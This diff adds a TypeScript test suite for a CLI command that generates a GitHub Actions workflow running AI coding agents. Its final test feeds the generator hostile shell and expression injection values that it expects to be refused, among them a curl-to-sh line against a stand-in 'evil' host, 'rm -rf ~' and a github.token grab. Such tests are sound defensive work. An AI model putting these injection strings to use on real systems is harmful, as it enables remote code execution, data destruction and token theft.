@@ -1,0 +1,419 @@
+/**
+ * `ci github`: the GitHub Actions workflow it writes has the shape of the Actions schema, names
+ * the commands each job runs, and does what it says: its `run:` scripts, run here in fresh clones
+ * of a bare remote (one per job, as runners would) with a fake agent CLI on PATH and the built
+ * CLI in place of `npx swarm-conductor`, push each step's branch with its commit and state, and
+ * the join job merges them, the state files joined by the merge driver.
+ */
+import { spawnSync } from 'node:child_process';
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { load } from 'js-yaml';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { githubWorkflow } from '../src/ci/github.js';
+import type { ExecutionContext } from '../src/types.js';
+import { type Event, HEADLESS_WRITERS } from './fixtures/transcripts/make.js';
+import { GIT_ENV, git } from './git.js';
+import { CLI, cleanup, cliIn, makeTempDir, pattern, projectAt, REPO, refused } from './helpers.js';
+
+test.after.each(cleanup);
+
+/** `${{ text }}`, a GitHub Actions expression. */
+const expr = (text: string) => `\${{ ${text} }}`;
+const FAKE = path.join(REPO, 'test/fixtures/headless/fake-agent.mjs');
+const WORKFLOW = '.github/workflows/swarm-conductor.yml';
+const PLAN = {
+  goal: 'Two parts side by side, then joined',
+  steps: [
+    { stepNumber: 1, agentName: 'BackendMaster', task: 'Build the API' },
+    { stepNumber: 2, agentName: 'FrontendExpert', task: 'Build the UI' },
+    { stepNumber: 3, agentName: 'IntegratorFinalizer', task: 'Join them', dependencies: [1, 2] },
+  ],
+};
+
+type Step = { id?: string; name?: string; if?: string; uses?: string; run?: string; env?: Record<string, string> };
+type Job = {
+  name?: string;
+  needs?: string | string[];
+  if?: string;
+  'runs-on': string;
+  outputs?: Record<string, string>;
+  strategy?: { matrix: Record<string, unknown> };
+  steps: Step[];
+};
+type Workflow = { on: Record<string, unknown>; permissions: Record<string, string>; jobs: Record<string, Job> };
+
+// The keys the GitHub Actions workflow schema allows (docs.github.com, "Workflow syntax for GitHub Actions").
+const TOP_KEYS = ['name', 'run-name', 'on', 'permissions', 'env', 'defaults', 'concurrency', 'jobs'];
+const JOB_KEYS = [
+  'name',
+  'permissions',
+  'needs',
+  'if',
+  'runs-on',
+  'environment',
+  'concurrency',
+  'outputs',
+  'env',
+  'defaults',
+  'steps',
+  'timeout-minutes',
+  'strategy',
+  'continue-on-error',
+  'container',
+  'services',
+  'uses',
+  'with',
+  'secrets',
+];
+const STEP_KEYS = ['id', 'if', 'name', 'uses', 'run', 'working-directory', 'shell', 'with', 'env', 'continue-on-error'];
+const STRATEGY_KEYS = ['matrix', 'fail-fast', 'max-parallel'];
+
+/** The problems that would make GitHub refuse the workflow (or run something else than meant), as `path: message`. */
+function actionsProblems(workflow: Record<string, unknown>): string[] {
+  const problems: string[] = [];
+  const unknown = (where: string, value: object, allowed: string[]) => {
+    for (const key of Object.keys(value)) if (!allowed.includes(key)) problems.push(`${where}: unknown key ${key}`);
+  };
+  unknown('workflow', workflow, TOP_KEYS);
+  if (typeof workflow.on !== 'object' || workflow.on === null) problems.push('on: missing');
+  const jobs = workflow.jobs as Record<string, Record<string, unknown>> | undefined;
+  if (!jobs || Object.keys(jobs).length === 0) return [...problems, 'jobs: missing'];
+  for (const [name, job] of Object.entries(jobs)) {
+    const at = `jobs.${name}`;
+    if (!/^[A-Za-z_][\w-]*$/.test(name)) problems.push(`${at}: not a job id`);
+    unknown(at, job, JOB_KEYS);
+    if (typeof job['runs-on'] !== 'string') problems.push(`${at}.runs-on: missing`);
+    const needs = job.needs === undefined ? [] : ([] as unknown[]).concat(job.needs);
+    for (const other of needs) if (typeof other !== 'string' || !jobs[other]) problems.push(`${at}.needs: ${other}`);
+    if (job.strategy !== undefined) unknown(`${at}.strategy`, job.strategy as object, STRATEGY_KEYS);
+    if (!Array.isArray(job.steps) || job.steps.length === 0) {
+      problems.push(`${at}.steps: missing`);
+      continue;
+    }
+    job.steps.forEach((step: Record<string, unknown>, index: number) => {
+      unknown(`${at}.steps[${index}]`, step, STEP_KEYS);
+      if ((step.uses === undefined) === (step.run === undefined))
+        problems.push(`${at}.steps[${index}]: needs exactly one of uses and run`);
+      if (typeof step.uses === 'string' && !/^[\w.-]+\/[\w.-]+(\/[\w./-]+)?@[\w.-]+$/.test(step.uses))
+        problems.push(`${at}.steps[${index}].uses: ${step.uses}`);
+    });
+  }
+  return problems;
+}
+
+/** A git project with PLAN executed, the merge driver set up, all committed and pushed to a bare remote. */
+async function setup() {
+  const root = makeTempDir('swarm-conductor-ci-');
+  const bin = path.join(root, 'bin');
+  const scripts = path.join(root, 'scripts');
+  for (const folder of [bin, scripts]) mkdirSync(folder);
+  for (const cli of Object.keys(HEADLESS_WRITERS)) {
+    writeFileSync(path.join(bin, cli), `#!/bin/sh\nexec "${process.execPath}" "${FAKE}" ${cli} "$@"\n`);
+    chmodSync(path.join(bin, cli), 0o755);
+  }
+  git(root, 'init', '-q', '--bare', '-b', 'main', 'remote.git');
+  const remote = path.join(root, 'remote.git');
+  git(root, 'clone', '-q', remote, 'shop');
+  const dir = path.join(root, 'shop');
+  const project = projectAt(dir);
+  const env = { ...GIT_ENV, HOME: root, CI: 'true' };
+  project.write('plan.json', JSON.stringify(PLAN));
+  project.write('README.md', '# shop\n');
+  assert.is((await cliIn(env, dir, 'git', 'setup')).code, 0);
+  const executed = await cliIn(env, dir, 'execute', 'plan.json');
+  assert.is(executed.code, 0, executed.stderr);
+  const id = /Execution (exec-\S+) created/.exec(executed.stdout)![1]!;
+  git(dir, 'add', '-A');
+  git(dir, 'commit', '-qm', 'start');
+  return { root, remote, dir, project, env, bin, scripts, id, run: (...args: string[]) => cliIn(env, dir, ...args) };
+}
+
+const PASS = ['> shop@1.0.0 test', '> node --test', '', 'ℹ pass 3', 'ℹ fail 0'].join('\n');
+const honest = (n: number) => ({
+  files: { [`src/part-${n}.ts`]: `export const part${n} = ${n};\n` },
+  stream: HEADLESS_WRITERS.claude([
+    { write: `src/part-${n}.ts` },
+    { run: 'npm test', output: PASS, exit: 0 },
+    { say: `Added \`src/part-${n}.ts\`. All 3 tests pass (\`npm test\`).` },
+  ] satisfies Event[]),
+});
+
+/** The workflow `ci github` wrote, parsed. */
+function workflowIn(dir: string, file = WORKFLOW): Workflow {
+  return load(readFileSync(path.join(dir, file), 'utf8')) as Workflow;
+}
+
+test('the workflow has the shape of an Actions workflow: a ready job, a matrix of its steps, a join', async () => {
+  const s = await setup();
+  const wrote = await s.run('ci', 'github', s.id, '--agent', 'claude');
+  assert.is(wrote.code, 0, wrote.stderr);
+  assert.match(wrote.stdout, new RegExp(`^Wrote ${WORKFLOW}: the ready steps of ${s.id}, each a job running Claude`));
+  assert.match(wrote.stdout, /^Repository secrets it reads: ANTHROPIC_API_KEY\.$/m);
+  assert.is(wrote.stderr, '', 'the merge driver is in .gitattributes: nothing to warn about');
+  const workflow = workflowIn(s.dir);
+  assert.equal(actionsProblems(workflow as unknown as Record<string, unknown>), []);
+  assert.equal(Object.keys(workflow.on), ['workflow_dispatch']);
+  assert.equal(workflow.permissions, { contents: 'write' });
+  const { ready, step, join } = workflow.jobs;
+  assert.ok(ready && step && join, 'jobs ready, step and join');
+  // The matrix is the first job's output, which a step of it writes to $GITHUB_OUTPUT.
+  assert.is(ready.outputs?.steps, expr('steps.ready.outputs.steps'));
+  assert.match(ready.steps.find((one) => one.id === 'ready')?.run ?? '', /"steps=\$steps" >> "\$GITHUB_OUTPUT"/);
+  assert.is(step.needs, 'ready');
+  assert.equal(step.strategy?.matrix, { step: expr('fromJSON(needs.ready.outputs.steps)') });
+  assert.is(step.if, "needs.ready.outputs.steps != '[]'", 'an empty wave starts no matrix (GitHub refuses one)');
+  assert.equal(join.needs, ['ready', 'step']);
+  const runs = (job: Job) => job.steps.flatMap((one) => (one.run ? one.run.split('\n') : [`uses ${one.uses}`]));
+  const q = `'${s.id}'`;
+  assert.equal(runs(ready), [
+    'uses actions/checkout@v4',
+    'uses actions/setup-node@v4',
+    'npm ci',
+    `steps=$(npx swarm-conductor next ${q} --json | jq -c '[.ready[].stepNumber]')`,
+    'echo "ready: $steps"',
+    'echo "steps=$steps" >> "$GITHUB_OUTPUT"',
+  ]);
+  assert.equal(runs(step), [
+    'uses actions/checkout@v4',
+    'uses actions/setup-node@v4',
+    'npm ci',
+    "npm install --global '@anthropic-ai/claude-code'",
+    "git config user.name 'github-actions[bot]'",
+    "git config user.email '41898282+github-actions[bot]@users.noreply.github.com'",
+    'npx swarm-conductor git setup',
+    `npx swarm-conductor run ${q} --headless --agent 'claude' --step "$STEP"`,
+    "git add -A -- 'proof'",
+    'git commit --quiet -m "swarm-conductor: the state after step $STEP"',
+    'git push --force origin "HEAD:refs/heads/$BRANCH"',
+    'uses actions/upload-artifact@v4',
+  ]);
+  assert.ok(runs(join).includes('    git merge --no-ff --no-edit -m "swarm-conductor: join $branch" FETCH_HEAD'));
+  const agentStep = step.steps.find((one) => one.run?.includes('--headless'))!;
+  assert.equal(agentStep.env, { STEP: expr('matrix.step'), ANTHROPIC_API_KEY: expr('secrets.ANTHROPIC_API_KEY') });
+  // Expressions reach the scripts only through env: nothing is spliced into a shell line.
+  for (const job of Object.values(workflow.jobs))
+    for (const one of job.steps) assert.not.match(one.run ?? '', /\$\{\{/, one.run);
+  // Another agent CLI: its own package and secret.
+  const codex = await s.run('ci', 'github', s.id, '--agent', 'codex', '--output', '.github/workflows/codex.yml');
+  assert.is(codex.code, 0, codex.stderr);
+  const other = workflowIn(s.dir, '.github/workflows/codex.yml').jobs.step!;
+  assert.ok(runs(other).includes("npm install --global '@openai/codex'"));
+  assert.equal(other.steps.find((one) => one.run?.includes('--headless'))?.env, {
+    STEP: expr('matrix.step'),
+    CODEX_API_KEY: expr('secrets.CODEX_API_KEY'),
+  });
+});
+
+/** `${{ … }}` in env values and outputs, from what this run knows; anything else is a test failure. */
+function substitute(text: string, known: Record<string, string>): string {
+  return text.replace(/\$\{\{\s*(.+?)\s*\}\}/g, (_, expression: string) => {
+    const value = known[expression] ?? (expression.startsWith('secrets.') ? 'a-test-secret' : undefined);
+    if (value === undefined) throw new Error(`the test does not know ${expression}`);
+    return value;
+  });
+}
+
+/**
+ * One job as a runner would run it, in a fresh clone: checkout is a clone of the remote, setup-node
+ * and npm installs are what this machine has, a failure()-only step is skipped when nothing failed,
+ * and each `run:` script runs in bash -eo pipefail with `npx swarm-conductor` the built CLI. A step
+ * that fails fails the test, unless `mayFail`: then the job stops there, as on a runner.
+ */
+function runJob(
+  s: Awaited<ReturnType<typeof setup>>,
+  job: Job,
+  folder: string,
+  known: Record<string, string>,
+  mayFail = false,
+): { outputs: Record<string, string>; log: string; failed?: string } {
+  const dir = path.join(s.root, folder);
+  const outputFile = path.join(s.root, `${folder}.output`);
+  writeFileSync(outputFile, '');
+  let log = '';
+  let failed: string | undefined;
+  for (const step of job.steps) {
+    if ((step.if === 'failure()') !== (failed !== undefined)) continue;
+    if (step.uses?.startsWith('actions/upload-artifact@')) continue;
+    if (step.uses?.startsWith('actions/checkout@')) {
+      assert.is(git(s.root, 'clone', '-q', s.remote, folder).code, 0);
+      continue;
+    }
+    if (step.uses?.startsWith('actions/setup-node@')) continue;
+    assert.ok(step.run, `${step.uses}: the test does not know this action`);
+    if (step.run === 'npm ci' || /^npm install --global '[^']+'$/.test(step.run)) continue; // no network here
+    const script = step.run.split('npx swarm-conductor').join(`'${process.execPath}' '${CLI}'`);
+    const env = Object.fromEntries(
+      Object.entries(step.env ?? {}).map(([key, value]) => [key, substitute(value, known)]),
+    );
+    const result = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
+      cwd: dir,
+      encoding: 'utf8',
+      env: {
+        PATH: `${s.bin}${path.delimiter}${process.env.PATH}`,
+        HOME: s.root,
+        GIT_CONFIG_NOSYSTEM: '1',
+        CI: 'true',
+        NO_COLOR: '1',
+        GITHUB_OUTPUT: outputFile,
+        FAKE_AGENT_SCRIPTS: s.scripts,
+        ...env,
+      },
+    });
+    log += `$ ${step.run}\n${result.stdout}${result.stderr}`;
+    if (result.status !== 0) failed = step.name ?? step.run;
+    if (!mayFail) assert.is(result.status, 0, `${failed} failed:\n${log}`);
+  }
+  const written = Object.fromEntries(
+    readFileSync(outputFile, 'utf8')
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
+  );
+  const outputs = Object.fromEntries(
+    Object.entries(job.outputs ?? {}).map(([key, value]) => [
+      key,
+      substitute(value, Object.fromEntries(Object.entries(written).map(([k, v]) => [`steps.ready.outputs.${k}`, v]))),
+    ]),
+  );
+  return { outputs, log, ...(failed ? { failed } : {}) };
+}
+
+test("run locally, the jobs' scripts push each step's branch with its commit and state, and join them", async () => {
+  const s = await setup();
+  assert.is((await s.run('ci', 'github', s.id, '--agent', 'claude')).code, 0);
+  git(s.dir, 'add', '-A');
+  git(s.dir, 'commit', '-qm', 'the workflow');
+  assert.is(git(s.dir, 'push', '-q', 'origin', 'main').code, 0);
+  for (const n of [1, 2]) writeFileSync(path.join(s.scripts, `step-${n}.json`), JSON.stringify(honest(n)));
+  const workflow = workflowIn(s.dir);
+  const { ready, step, join } = workflow.jobs as Record<string, Job>;
+
+  const wave = runJob(s, ready!, 'ready', {});
+  assert.is(wave.outputs.steps, '[1,2]', wave.log);
+  const matrix = JSON.parse(wave.outputs.steps!) as number[];
+  // Each matrix job on a machine of its own, from the same commit.
+  for (const n of matrix) {
+    const known = { 'matrix.step': String(n), 'needs.ready.outputs.steps': wave.outputs.steps! };
+    const job = runJob(s, step!, `step-${n}`, known);
+    assert.match(job.log, new RegExp(`✓ ${n} \\w+: verified, merged`), job.log);
+  }
+  const file = `proof/execution-${s.id}.json`;
+  const at = (ref: string, what: string) => git(s.remote, 'show', `${ref}:${what}`);
+  const statuses = (ref: string) =>
+    (JSON.parse(at(ref, file).out) as ExecutionContext).stepResults.map((result) => result.status);
+  for (const n of matrix) {
+    const branch = `conductor/${s.id}/step-${n}`;
+    assert.is(at(branch, `src/part-${n}.ts`).out, `export const part${n} = ${n};\n`, `${branch} has the step's work`);
+    assert.is(at(branch, `src/part-${3 - n}.ts`).code, 128, `${branch} has only its own step's work`);
+    assert.equal(statuses(branch), n === 1 ? ['completed', 'pending', 'pending'] : ['pending', 'completed', 'pending']);
+    assert.is(
+      git(s.remote, 'log', '-1', '--format=%s', branch).out.trim(),
+      `swarm-conductor: the state after step ${n}`,
+    );
+    assert.match(at(branch, `proof/execution-${s.id}`).out, new RegExp(`step-${n}-\\w+\\.transcript\\.jsonl`));
+  }
+  assert.equal(statuses('main'), ['pending', 'pending', 'pending'], 'main is as it was until the join');
+
+  const joined = runJob(s, join!, 'join', { 'needs.ready.outputs.steps': wave.outputs.steps! });
+  for (const n of matrix) assert.is(at('main', `src/part-${n}.ts`).code, 0, joined.log);
+  assert.equal(statuses('main'), ['completed', 'completed', 'pending'], 'the merge driver joined the state files');
+  // The next run of the workflow is the next wave.
+  assert.is(runJob(s, ready!, 'ready-again', {}).outputs.steps, '[3]');
+});
+
+test('a step that fails pushes no branch, and the join merges the others', async () => {
+  const s = await setup();
+  assert.is((await s.run('ci', 'github', s.id, '--agent', 'claude')).code, 0);
+  git(s.dir, 'add', '-A');
+  git(s.dir, 'commit', '-qm', 'the workflow');
+  git(s.dir, 'push', '-q', 'origin', 'main');
+  writeFileSync(path.join(s.scripts, 'step-1.json'), JSON.stringify(honest(1)));
+  writeFileSync(path.join(s.scripts, 'step-2.json'), JSON.stringify({ ...honest(2), exit: 1 }));
+  const { step, join } = workflowIn(s.dir).jobs as Record<string, Job>;
+  const steps = '[1,2]';
+  runJob(s, step!, 'step-1', { 'matrix.step': '1', 'needs.ready.outputs.steps': steps });
+  const failing = runJob(s, step!, 'step-2', { 'matrix.step': '2', 'needs.ready.outputs.steps': steps }, true);
+  assert.is(failing.failed, 'Run the step with Claude Code', failing.log);
+  assert.not.match(failing.log, /git push/, 'the job stopped at the failed step');
+  assert.is.not(git(s.remote, 'rev-parse', '--verify', '--quiet', `conductor/${s.id}/step-2`).code, 0);
+  const joined = runJob(s, join!, 'join', { 'needs.ready.outputs.steps': steps });
+  assert.match(joined.log, /step 2: no branch conductor\/\S+\/step-2 \(the step failed\): not joined/);
+  assert.is(git(s.remote, 'show', 'main:src/part-1.ts').code, 0);
+  assert.is(git(s.remote, 'show', 'main:src/part-2.ts').code, 128);
+});
+
+test('bad input is refused with what to do, and nothing is written', async () => {
+  const s = await setup();
+  await refused(
+    s.project,
+    ['ci', 'github', s.id, '--agent', 'aider'],
+    pattern(
+      /^error: ci github runs an agent CLI it can install on a runner, and "aider" is not one\n/,
+      / {2}hint: name one of them: --agent claude, copilot, gemini, opencode, codex\n$/,
+    ),
+  );
+  await refused(s.project, ['ci', 'github', s.id], /^error: ci github needs the agent CLI the jobs run\n/);
+  await refused(
+    s.project,
+    ['ci', 'github', 'exec-nope', '--agent', 'claude'],
+    /^error: no execution matches "exec-nope"/,
+  );
+  s.project.write(WORKFLOW, 'name: mine\n');
+  await refused(
+    s.project,
+    ['ci', 'github', s.id, '--agent', 'claude'],
+    /^error: \.github\/workflows\/swarm-conductor\.yml exists already; nothing was written\n {2}hint: add --force/,
+  );
+  await refused(
+    s.project,
+    ['ci', 'github', s.id, '--agent', 'claude', '--output', '../x.yml'],
+    /is outside the project/,
+  );
+  const forced = await s.run('ci', 'github', s.id, '--agent', 'claude', '--force');
+  assert.is(forced.code, 0, forced.stderr);
+  assert.match(s.project.read(WORKFLOW), /^# Written by swarm-conductor ci github/);
+});
+
+test('ci github says what to commit first: the merge driver in .gitattributes, the execution state', async () => {
+  const root = makeTempDir('swarm-conductor-ci-');
+  git(root, 'init', '-q', '-b', 'main');
+  writeFileSync(path.join(root, 'plan.json'), JSON.stringify(PLAN));
+  const env = { ...GIT_ENV, HOME: root };
+  assert.is((await cliIn(env, root, 'execute', 'plan.json')).code, 0);
+  const wrote = await cliIn(env, root, 'ci', 'github', '--agent', 'gemini');
+  assert.is(wrote.code, 0, wrote.stderr);
+  assert.match(
+    wrote.stderr,
+    /^note: the execution's state is not committed as it is: commit proof\/ before the first run$/m,
+  );
+  assert.match(wrote.stderr, /^note: \.gitattributes does not name the merge driver yet, .*git setup and commit/m);
+  assert.match(readFileSync(path.join(root, WORKFLOW), 'utf8'), /GEMINI_API_KEY: \$\{\{ secrets\.GEMINI_API_KEY \}\}/);
+});
+
+test('what the builder writes into a shell line is checked first: an id or name that could be more is refused', () => {
+  const input = {
+    executionId: 'exec-1',
+    agent: { name: 'claude', label: 'Claude Code', ci: { package: '@anthropic-ai/claude-code', secrets: ['KEY'] } },
+    projectDir: '',
+    proofDir: 'proof',
+    worktreesDir: '.conductor/worktrees',
+  };
+  assert.match(githubWorkflow(input), /--agent 'claude'/);
+  const bad: [Partial<typeof input> & Record<string, unknown>, RegExp][] = [
+    [{ executionId: "x'; curl evil | sh; '" }, /the execution id/],
+    [{ executionId: 'a\nb' }, /the execution id/],
+    [{ agent: { ...input.agent, name: 'claude $(id)' } }, /the agent name/],
+    [{ agent: { ...input.agent, ci: { package: 'x; rm -rf ~', secrets: [] } } }, /the npm package/],
+    [{ agent: { ...input.agent, ci: { package: 'x', secrets: ['A }} ${{ github.token'] } } }, /the secret name/],
+    [{ proofDir: "proof' && evil '" }, /the proof folder/],
+    [{ proofDir: '../elsewhere' }, /the proof folder/],
+    [{ projectDir: 'app\nrun: evil' }, /the project folder/],
+  ];
+  for (const [change, message] of bad) {
+    assert.throws(() => githubWorkflow({ ...input, ...change } as typeof input), message, JSON.stringify(change));
+  }
+});
+
+test.run();
